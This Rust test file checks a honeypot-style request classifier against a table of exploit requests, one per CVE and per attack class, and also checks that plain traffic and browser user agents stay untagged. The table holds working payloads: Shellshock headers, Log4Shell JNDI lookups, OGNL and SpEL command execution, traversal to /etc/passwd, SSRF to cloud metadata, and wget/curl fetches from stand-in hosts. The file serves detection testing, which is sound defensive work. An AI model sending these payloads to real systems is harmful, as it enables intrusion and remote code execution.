//! The default rules against one request shape per CVE and per attack class (from the public
//! advisories and exploits of each), so a rule edit that loses one fails here; and every `cve:`
//! tag the rules can give must have its shape in this table.

use tarpit::classify::rules::RuleExample;
use tarpit::classify::{Classifier, RequestView};

/// (expected tag, method, path, query, headers, body)
type Shape = (
    &'static str,
    &'static str,
    &'static str,
    Option<&'static str>,
    &'static [(&'static str, &'static str)],
    &'static str,
);

const UA: (&str, &str) = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)");

const SHAPES: &[Shape] = &[
    (
        "cve:CVE-2006-3392",
        "GET",
        "/unauthenticated/..%01/..%01/..%01/etc/passwd",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2010-0738",
        "HEAD",
        "/jmx-console/HtmlAdaptor",
        Some("action=invokeOpByName"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2010-2861",
        "GET",
        "/CFIDE/administrator/enter.cfm",
        Some("locale=../../../../../../../lib/password.properties%00en"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2011-3192",
        "HEAD",
        "/",
        None,
        &[UA, ("Range", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6")],
        "",
    ),
    (
        "cve:CVE-2011-3368",
        "GET",
        "@evil.example/",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2012-1823",
        "POST",
        "/index.php",
        Some("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
        &[UA],
        "<?php system('id'); ?>",
    ),
    (
        "cve:CVE-2013-0156",
        "POST",
        "/",
        None,
        &[UA, ("Content-Type", "application/xml")],
        "<hash><a type=\"yaml\">--- !ruby/object:Gem::Requirement</a></hash>",
    ),
    (
        "cve:CVE-2013-6786",
        "GET",
        "/aXbYcZ",
        None,
        &[UA, ("Referer", "\"><script>alert(\"XSS\")</script><\"")],
        "",
    ),
    (
        "cve:CVE-2013-7091",
        "GET",
        "/zimbra/res/I18nMsg,AjxMsg,ZMsg,ZmMsg,AjxKeys,ZmKeys,ZdMsg,Ajx%20TemplateMsg.js.zgz",
        Some("v=091214175450&skin=../../../../../../../../../opt/zimbra/conf/localconfig.xml%00"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2014-3704",
        "POST",
        "/",
        Some("q=node&destination=node"),
        &[UA],
        "name[0%20;update+users+set+name%3d'admin'+where+uid+%3d+'1';;#%20%20]=x&name[0]=y&pass=z&form_id=user_login_block",
    ),
    (
        "cve:CVE-2014-6271",
        "GET",
        "/cgi-bin/status",
        None,
        &[("User-Agent", "() { :;}; echo; /bin/cat /etc/passwd")],
        "",
    ),
    (
        "cve:CVE-2014-8361",
        "POST",
        "/picsdesc.xml",
        None,
        &[UA],
        "<NewInternalClient>`cd /tmp; wget http://x/m`</NewInternalClient>",
    ),
    (
        "cve:CVE-2014-8877",
        "GET",
        "/cmdownloads/",
        Some("CMDsearch=\".phpinfo().\""),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2015-1427",
        "POST",
        "/_search",
        None,
        &[UA],
        "{\"size\":1,\"script_fields\":{\"x\":{\"script\":\"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\")\"}}}",
    ),
    (
        "cve:CVE-2015-1635",
        "GET",
        "/",
        None,
        &[UA, ("Range", "bytes=0-18446744073709551615")],
        "",
    ),
    (
        "cve:CVE-2016-6277",
        "GET",
        "/cgi-bin/;uname$IFS-a",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2017-1001000",
        "POST",
        "/index.php/wp-json/wp/v2/posts/1234/",
        Some("id=1234abc"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2017-10271",
        "POST",
        "/wls-wsat/CoordinatorPortType",
        None,
        &[UA],
        "<soapenv:Envelope>...</soapenv:Envelope>",
    ),
    (
        "cve:CVE-2017-12615",
        "PUT",
        "/shell.jsp/",
        None,
        &[UA],
        "<% out.println(1); %>",
    ),
    (
        "cve:CVE-2017-17215",
        "POST",
        "/ctrlt/DeviceUpgrade_1",
        None,
        &[UA],
        "<NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /m)</NewStatusURL>",
    ),
    (
        "cve:CVE-2017-5638",
        "GET",
        "/index.action",
        None,
        &[
            UA,
            (
                "Content-Type",
                "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            ),
        ],
        "",
    ),
    (
        "cve:CVE-2017-5689",
        "GET",
        "/index.htm",
        None,
        &[
            UA,
            (
                "Authorization",
                "Digest username=\"admin\", realm=\"Digest:1\", nonce=\"x\", uri=\"/index.htm\", response=\"\", qop=auth",
            ),
        ],
        "",
    ),
    (
        "cve:CVE-2017-8917",
        "GET",
        "/index.php",
        Some(
            "option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x3a,concat(1,version()),1)",
        ),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2017-9841",
        "POST",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        None,
        &[UA],
        "<?php echo md5('x');",
    ),
    (
        "cve:CVE-2018-1000861",
        "GET",
        "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2018-10562",
        "POST",
        "/GponForm/diag_Form",
        Some("images/"),
        &[UA],
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget`;sh",
    ),
    (
        "cve:CVE-2018-13379",
        "GET",
        "/remote/fgt_lang",
        Some("lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2018-20062",
        "GET",
        "/index.php",
        Some(
            "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
        ),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2018-7600",
        "POST",
        "/user/register",
        Some("element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax"),
        &[UA],
        "form_id=user_register_form&mail[#post_render][]=exec&mail[#markup]=id",
    ),
    (
        "cve:CVE-2019-11510",
        "GET",
        "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd",
        Some("/dana/html5acc/guacamole/"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2019-16759",
        "POST",
        "/index.php",
        Some("routestring=ajax/render/widget_php"),
        &[UA],
        "widgetConfig[code]=echo shell_exec('id'); exit;",
    ),
    (
        "cve:CVE-2019-18935",
        "POST",
        "/Telerik.Web.UI.WebResource.axd",
        Some("type=rau"),
        &[UA],
        "rauPostData=x",
    ),
    (
        "cve:CVE-2019-19781",
        "GET",
        "/vpn/../vpns/cfg/smb.conf",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2019-2725",
        "POST",
        "/_async/AsyncResponseService",
        None,
        &[UA],
        "<soapenv:Envelope/>",
    ),
    (
        "cve:CVE-2019-3396",
        "POST",
        "/rest/tinymce/1/macro/preview",
        None,
        &[UA],
        "{\"contentId\":\"1\",\"macro\":{\"name\":\"widget\",\"params\":{\"_template\":\"file:///etc/passwd\"}}}",
    ),
    (
        "cve:CVE-2020-0688",
        "GET",
        "/ecp/default.aspx",
        Some("__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=x"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2020-14882",
        "GET",
        "/console/css/%252e%252e%252fconsole.portal",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2020-25213",
        "POST",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        None,
        &[UA],
        "cmd=upload&target=l1_Lw",
    ),
    (
        "cve:CVE-2020-5902",
        "GET",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
        Some("fileName=/etc/passwd"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2020-8515",
        "POST",
        "/cgi-bin/mainfunction.cgi",
        None,
        &[UA],
        "action=login&keyPath=%27%0A/bin/sh${IFS}-c${IFS}id%0A%27&loginUser=a&loginPwd=a",
    ),
    (
        "cve:CVE-2021-21972",
        "POST",
        "/ui/vropspluginui/rest/services/uploadova",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2021-22005",
        "POST",
        "/analytics/telemetry/ph/api/hyper/send",
        Some("_c=&_i=/../../../../../../etc/cron.d/x"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2021-22986",
        "POST",
        "/mgmt/shared/authn/login",
        None,
        &[UA],
        "{\"bigipAuthCookie\":\"\",\"username\":\"admin\"}",
    ),
    (
        "cve:CVE-2021-26084",
        "POST",
        "/pages/createpage-entervariables.action",
        Some("SpaceKey=x"),
        &[UA],
        "queryString=aaa\\u0027%2b#{\\u0022\\u0022[\\u0022class\\u0022]}%2b\\u0027",
    ),
    (
        "cve:CVE-2021-26855",
        "GET",
        "/ecp/x.js",
        None,
        &[
            UA,
            (
                "Cookie",
                "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3",
            ),
        ],
        "",
    ),
    (
        "cve:CVE-2021-3129",
        "POST",
        "/_ignition/execute-solution",
        None,
        &[UA],
        "{\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution\"}",
    ),
    (
        "cve:CVE-2021-34473",
        "GET",
        "/autodiscover/autodiscover.json",
        Some("@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2021-40438",
        "GET",
        "/",
        Some(
            "unix:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|http://169.254.169.254/",
        ),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2021-41773",
        "GET",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        None,
        &[UA],
        "echo;id",
    ),
    (
        "cve:CVE-2021-42013",
        "GET",
        "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2021-44228",
        "GET",
        "/",
        Some("x=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fx.example%2Fa%7D"),
        &[UA, ("X-Api-Version", "${jndi:ldap://x.example/a}")],
        "",
    ),
    (
        "cve:CVE-2022-1388",
        "POST",
        "/mgmt/tm/util/bash",
        None,
        &[
            UA,
            ("Connection", "keep-alive, X-F5-Auth-Token"),
            ("X-F5-Auth-Token", "a"),
        ],
        "{\"command\":\"run\",\"utilCmdArgs\":\"-c id\"}",
    ),
    (
        "cve:CVE-2022-22954",
        "GET",
        "/catalog-portal/ui/oauth/verify",
        Some("error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%22%7d"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2022-22963",
        "POST",
        "/functionRouter",
        None,
        &[
            UA,
            (
                "spring.cloud.function.routing-expression",
                "T(java.lang.Runtime).getRuntime().exec(\"id\")",
            ),
        ],
        "x",
    ),
    (
        "cve:CVE-2022-22965",
        "POST",
        "/",
        None,
        &[UA],
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    ),
    (
        "cve:CVE-2022-26134",
        "GET",
        "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
        None,
        &[UA],
        "",
    ),
    (
        "cve:CVE-2022-47966",
        "POST",
        "/SamlResponseServlet",
        None,
        &[UA],
        "SAMLResponse=x",
    ),
    (
        "cve:CVE-2023-1389",
        "GET",
        "/cgi-bin/luci/;stok=/locale",
        Some("form=country&operation=write&country=$(id>/tmp/x)"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2023-20198",
        "POST",
        "/webui/logoutconfirm.html",
        Some("logon_hash=1"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2023-22515",
        "GET",
        "/server-info.action",
        Some("bootstrapStatusProvider.applicationConfig.setupComplete=false"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2023-34362",
        "POST",
        "/moveitisapi/moveitisapi.dll",
        Some("action=m2"),
        &[UA, ("X-siLock-Transaction", "folder_add_by_path")],
        "",
    ),
    (
        "cve:CVE-2023-4966",
        "GET",
        "/oauth/idp/.well-known/openid-configuration",
        None,
        &[
            UA,
            (
                "Host",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            ),
        ],
        "",
    ),
    (
        "cve:CVE-2024-27198",
        "GET",
        "/hax",
        Some("jsp=/app/rest/users;.jsp"),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2024-3400",
        "POST",
        "/ssl-vpn/hipreport.esp",
        None,
        &[
            UA,
            (
                "Cookie",
                "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/x`curl${IFS}x.example`",
            ),
        ],
        "",
    ),
    (
        "cve:CVE-2024-4577",
        "POST",
        "/php-cgi/php-cgi.exe",
        Some("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
        &[UA],
        "<?php echo 1; ?>",
    ),
    (
        "cve:CVE-2019-9082",
        "GET",
        "/index.php",
        Some(
            "s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        ),
        &[UA],
        "",
    ),
    (
        "cve:CVE-2018-10561",
        "POST",
        "/GponForm/diag_Form",
        Some("images/"),
        &[UA],
        "dest_host=`ls`",
    ),
    // Attack classes.
    (
        "attack:sqli",
        "GET",
        "/item.php",
        Some("id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
        &[UA],
        "",
    ),
    (
        "attack:xss",
        "GET",
        "/search",
        Some("q=%3Csvg%2Fonload%3Dalert(1)%3E"),
        &[UA],
        "",
    ),
    (
        "attack:path-traversal",
        "GET",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        None,
        &[UA],
        "",
    ),
    (
        "attack:lfi",
        "GET",
        "/index.php",
        Some("page=php://filter/convert.base64-encode/resource=index"),
        &[UA],
        "",
    ),
    (
        "attack:rfi",
        "GET",
        "/index.php",
        Some("page=http://evil.example/shell.txt?"),
        &[UA],
        "",
    ),
    (
        "attack:cmd-injection",
        "GET",
        "/ping.php",
        Some("host=127.0.0.1;cat%20/etc/passwd"),
        &[UA],
        "",
    ),
    (
        "attack:code-injection",
        "POST",
        "/index.php",
        None,
        &[UA],
        "<?php eval(base64_decode($_POST['x'])); ?>",
    ),
    (
        "attack:log4shell",
        "GET",
        "/",
        None,
        &[("User-Agent", "${jndi:ldap://x.example:1389/Exploit}")],
        "",
    ),
    (
        "attack:shellshock",
        "GET",
        "/cgi-bin/test.cgi",
        None,
        &[("Referer", "() { ignored; }; /bin/bash -c id")],
        "",
    ),
    (
        "attack:ssrf",
        "GET",
        "/fetch",
        Some("url=http://169.254.169.254/latest/meta-data/iam/"),
        &[UA],
        "",
    ),
    (
        "attack:xxe",
        "POST",
        "/xmlrpc.php",
        None,
        &[UA],
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    ),
    (
        "attack:crlf",
        "GET",
        "/%0d%0aSet-Cookie:%20crlf=injected",
        None,
        &[UA],
        "",
    ),
    (
        "attack:webshell",
        "GET",
        "/wp-content/uploads/alfa.php",
        None,
        &[UA],
        "",
    ),
    // Targets, tools and crawlers (a few of each).
    (
        "target:wordpress",
        "POST",
        "/xmlrpc.php",
        None,
        &[UA],
        "<methodCall/>",
    ),
    (
        "target:phpmyadmin",
        "GET",
        "/phpMyAdmin/index.php",
        None,
        &[UA],
        "",
    ),
    (
        "target:git-exposure",
        "GET",
        "/.git/config",
        None,
        &[UA],
        "",
    ),
    ("target:env-exposure", "GET", "/.env", None, &[UA], ""),
    (
        "target:spring-actuator",
        "GET",
        "/actuator/heapdump",
        None,
        &[UA],
        "",
    ),
    ("target:router", "POST", "/HNAP1/", None, &[UA], ""),
    (
        "target:iot-camera",
        "GET",
        "/ISAPI/Security/userCheck",
        None,
        &[UA],
        "",
    ),
    (
        "tool:zgrab",
        "GET",
        "/",
        None,
        &[("User-Agent", "Mozilla/5.0 zgrab/0.x")],
        "",
    ),
    (
        "tool:masscan",
        "GET",
        "/",
        None,
        &[(
            "User-Agent",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        )],
        "",
    ),
    (
        "tool:go-http-client",
        "GET",
        "/",
        None,
        &[("User-Agent", "Go-http-client/1.1")],
        "",
    ),
    (
        "tool:nuclei",
        "GET",
        "/",
        None,
        &[(
            "User-Agent",
            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        )],
        "",
    ),
    (
        "tool:censys",
        "GET",
        "/",
        None,
        &[(
            "User-Agent",
            "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        )],
        "",
    ),
    ("tool:no-user-agent", "GET", "/", None, &[("Host", "x")], ""),
    (
        "crawler:googlebot",
        "GET",
        "/robots.txt",
        None,
        &[(
            "User-Agent",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        )],
        "",
    ),
    // The bypass of the CVE-2020-14882 patch: the same traversal in upper case under images/.
    (
        "cve:CVE-2020-14750",
        "GET",
        "/console/images/%252E%252E%252Fconsole.portal",
        None,
        &[UA],
        "",
    ),
    // Shapes the issue named: a command parameter without a metacharacter, a DVR's /shell, an
    // uploaded shell under wp-content/uploads, a PHP probe that exits with a marker.
    (
        "attack:cmd-injection",
        "GET",
        "/index.php",
        Some("cmd=cat%20/etc/passwd"),
        &[UA],
        "",
    ),
    (
        "attack:cmd-injection",
        "GET",
        "/x.php",
        Some("cmd=net%20user"),
        &[UA],
        "",
    ),
    (
        "attack:cmd-injection",
        "GET",
        "/shell",
        Some("uname%20-a"),
        &[UA],
        "",
    ),
    (
        "attack:webshell",
        "GET",
        "/wp-content/uploads/cache.php",
        None,
        &[UA],
        "",
    ),
    ("attack:webshell", "GET", "/cmdd.php", None, &[UA], ""),
    (
        "attack:code-injection",
        "GET",
        "/index.php",
        Some("cmd=a%3Bexit%28md5%28%27x%27%29%29%3B%2F%2F"),
        &[UA],
        "",
    ),
    // The implant-era privilege escalation: the WSMA endpoint double-encoded past the front
    // end's filter (Cisco advisory; rules see the decoded path, /webui_wsma_Http).
    (
        "cve:CVE-2023-20198",
        "POST",
        "/%2577eb%2575i_%2577sma_Http",
        None,
        &[UA, ("Content-Type", "application/xml")],
        "<?xml version=\"1.0\"?><SOAP:Envelope xmlns:SOAP=\"http://schemas.xmlsoap.org/soap/envelope/\"><SOAP:Body><request correlator=\"exec1\" xmlns=\"urn:cisco:wsma-exec\"><execCLI><cmd>show run</cmd></execCLI></request></SOAP:Body></SOAP:Envelope>",
    ),
    // Spring Data Commons: SpEL in a form parameter's property path (Pivotal advisory PoC).
    (
        "cve:CVE-2018-1273",
        "POST",
        "/users",
        Some("page=&size=5"),
        &[UA, ("Content-Type", "application/x-www-form-urlencoded")],
        "username%5B%23this.getClass%28%29.forName%28%22java.lang.Runtime%22%29.getRuntime%28%29.exec%28%22id%22%29%5D=&password=&repeatedPassword=",
    ),
    // Struts 2 namespace OGNL: the expression is a path segment before the action (S2-057).
    (
        "cve:CVE-2018-11776",
        "GET",
        "/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action",
        None,
        &[UA],
        "",
    ),
    // aiohttp static routes with follow_symlinks (GHSA-5h86-8mv2-jq9f PoC).
    (
        "cve:CVE-2024-23334",
        "GET",
        "/static/../../../../etc/passwd",
        None,
        &[UA],
        "",
    ),
];

fn tags(classifier: &Classifier, shape: &Shape) -> Vec<String> {
    let (_, method, path, query, headers, body) = *shape;
    let example = RuleExample {
        source: "tests/classify_rules.rs".into(),
        method: Some(method.into()),
        path: path.into(),
        query: query.map(str::to_owned),
        headers: headers.iter().map(|(n, v)| format!("{n}: {v}")).collect(),
        body: (!body.is_empty()).then(|| body.to_owned()),
    };
    example_tags(classifier, &example)
}

#[test]
fn every_shape_gets_its_tag() {
    let classifier = Classifier::load(None).unwrap();
    let mut missed = Vec::new();
    for shape in SHAPES {
        let got = tags(&classifier, shape);
        if !got.iter().any(|t| t == shape.0) {
            missed.push(format!("{} {} {:?} -> {got:?}", shape.0, shape.2, shape.3));
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

/// The tags a rule's example gets.
fn example_tags(classifier: &Classifier, example: &RuleExample) -> Vec<String> {
    let headers: Vec<(String, String)> = example
        .headers
        .iter()
        .map(|line| {
            let (name, value) = line.split_once(':').unwrap_or((line, ""));
            (name.trim().to_owned(), value.trim().to_owned())
        })
        .collect();
    let user_agent = headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case("user-agent"))
        .map(|(_, v)| v.as_str());
    let view = RequestView {
        method: Some(example.method.as_deref().unwrap_or("GET")),
        path: Some(&example.path),
        query: example.query.as_deref(),
        headers: &headers,
        user_agent,
        body: example.body.as_deref().map(str::as_bytes),
        raw: None,
    };
    classifier
        .classify(&view)
        .iter()
        .map(|t| t.to_string())
        .collect()
}

/// Every rule that carries the request it was written from tags it with all of its tags.
#[test]
fn every_rule_example_gets_its_rules_tags() {
    let specs = tarpit::classify::rules::load(None).unwrap();
    let classifier = Classifier::new(&specs).unwrap();
    let mut missed = Vec::new();
    let mut examples = 0;
    for spec in &specs {
        let Some(example) = &spec.example else {
            continue;
        };
        examples += 1;
        assert!(
            !example.source.trim().is_empty(),
            "{}: example without a source",
            spec.id
        );
        let got = example_tags(&classifier, example);
        let lacking: Vec<&String> = spec.tags.iter().filter(|t| !got.contains(t)).collect();
        if !lacking.is_empty() {
            missed.push(format!("{}: lacks {lacking:?}, got {got:?}", spec.id));
        }
    }
    assert!(examples >= 150, "{examples} examples");
    assert!(
        missed.is_empty(),
        "examples not tagged:\n{}",
        missed.join("\n")
    );
}

/// Cross-product precision on the examples: an example gets no `cve:` tag but its own rule's,
/// or those of rules that share a CVE with it (one product's chain).
#[test]
fn no_example_gets_another_products_cve() {
    let specs = tarpit::classify::rules::load(None).unwrap();
    let classifier = Classifier::new(&specs).unwrap();
    let mut wrong = Vec::new();
    for spec in &specs {
        let Some(example) = &spec.example else {
            continue;
        };
        let own: Vec<&String> = spec.tags.iter().filter(|t| t.starts_with("cve:")).collect();
        let allowed: Vec<&str> = specs
            .iter()
            .filter(|r| r.tags.iter().any(|t| own.contains(&t)))
            .flat_map(|r| r.tags.iter().map(String::as_str))
            .collect();
        for tag in example_tags(&classifier, example) {
            if tag.starts_with("cve:") && !allowed.contains(&tag.as_str()) {
                wrong.push(format!("{} ({}) also got {tag}", spec.id, example.path));
            }
        }
    }
    assert!(wrong.is_empty(), "wrong CVE tags:\n{}", wrong.join("\n"));
}

#[test]
fn every_cve_the_rules_name_has_a_shape_here() {
    let specs = tarpit::classify::rules::load(None).unwrap();
    let classifier = Classifier::new(&specs).unwrap();
    let cves: Vec<&str> = classifier
        .all_tags()
        .iter()
        .map(|t| t.as_ref())
        .filter(|t| t.starts_with("cve:"))
        .collect();
    assert!(cves.len() >= 250, "at least 250 CVEs: {}", cves.len());
    let mut tested: Vec<&str> = SHAPES.iter().map(|s| s.0).collect();
    tested.extend(
        specs
            .iter()
            .filter(|s| s.example.is_some())
            .flat_map(|s| s.tags.iter().map(String::as_str)),
    );
    let untested: Vec<&&str> = cves.iter().filter(|c| !tested.contains(c)).collect();
    assert!(
        untested.is_empty(),
        "CVE rules without a shape: {untested:?}"
    );
}

#[test]
fn plain_requests_get_no_attack_or_cve_tag() {
    let classifier = Classifier::load(None).unwrap();
    for (path, query) in [
        ("/", None),
        ("/index.html", None),
        (
            "/blog/2024/03/hello-world",
            Some("utm_source=news&utm_medium=email"),
        ),
        ("/search", Some("q=select+a+plan+for+union+members&page=2")),
        (
            "/api/v1/items",
            Some("sort=-created_at&filter[name]=O%27Reilly"),
        ),
        ("/static/app.min.js", Some("v=1.2.3")),
    ] {
        let shape: Shape = ("", "GET", path, query, &[UA], "");
        let got = tags(&classifier, &shape);
        assert!(
            !got.iter()
                .any(|t| t.starts_with("attack:") || t.starts_with("cve:")),
            "{path} {query:?} -> {got:?}"
        );
    }
}

/// Cross-product precision: a request built for one CVE gets no other product's `cve:` tag. A
/// rule that names several CVEs of one product (a chain, or a fix and its bypass) gives them
/// together, so the tags a shape may carry are those of the rules that give its own tag.
#[test]
fn no_shape_gets_another_products_cve() {
    let specs = tarpit::classify::rules::load(None).unwrap();
    let classifier = Classifier::new(&specs).unwrap();
    let mut wrong = Vec::new();
    for shape in SHAPES.iter().filter(|s| s.0.starts_with("cve:")) {
        let allowed: Vec<&str> = specs
            .iter()
            .filter(|r| r.tags.iter().any(|t| t == shape.0))
            .flat_map(|r| r.tags.iter().map(String::as_str))
            .collect();
        for tag in tags(&classifier, shape) {
            if tag.starts_with("cve:") && !allowed.contains(&tag.as_str()) {
                wrong.push(format!(
                    "{} {} {:?} also got {tag}",
                    shape.0, shape.2, shape.3
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "wrong CVE tags:\n{}", wrong.join("\n"));
}

/// Real browsers' User-Agents are not commands: Opera Mini's `(MTK; Opera Mini/...; U; id)` names
/// its language (Indonesian), not the `id` command.
const BROWSERS: &[&str] = &[
    "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15",
    "Mozilla/5.0 (Linux; U; Android 4.0.4; id-id; GT-S7562 Build/IMM76I) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
];

/// Java XMLDecoder bodies (WebLogic's wls-wsat exploits, and harmless XML alike) are full of
/// `<object class=...>` elements: that is no cross-site scripting.
#[test]
fn an_xml_object_element_is_not_xss() {
    let classifier = Classifier::load(None).unwrap();
    let shape: Shape = (
        "",
        "POST",
        "/api/import",
        None,
        &[UA, ("Content-Type", "text/xml")],
        "<java version=\"1.8\"><object class=\"java.util.ArrayList\"><void method=\"add\"><string>x</string></void></object></java>",
    );
    let got = tags(&classifier, &shape);
    assert!(!got.iter().any(|t| t == "attack:xss"), "{got:?}");
    let xss: Shape = (
        "attack:xss",
        "GET",
        "/p",
        Some("x=%3Cobject%20data%3D%22javascript%3Aalert(1)%22%3E"),
        &[UA],
        "",
    );
    assert!(tags(&classifier, &xss).iter().any(|t| t == "attack:xss"));
}

#[test]
fn browser_user_agents_get_no_attack_tag() {
    let classifier = Classifier::load(None).unwrap();
    for ua in BROWSERS {
        let example = RuleExample {
            source: "tests/classify_rules.rs".into(),
            path: "/".into(),
            headers: vec![format!("User-Agent: {ua}")],
            ..Default::default()
        };
        let got = example_tags(&classifier, &example);
        assert!(
            !got.iter().any(|t| t.starts_with("attack:")),
            "{ua} -> {got:?}"
        );
    }
}
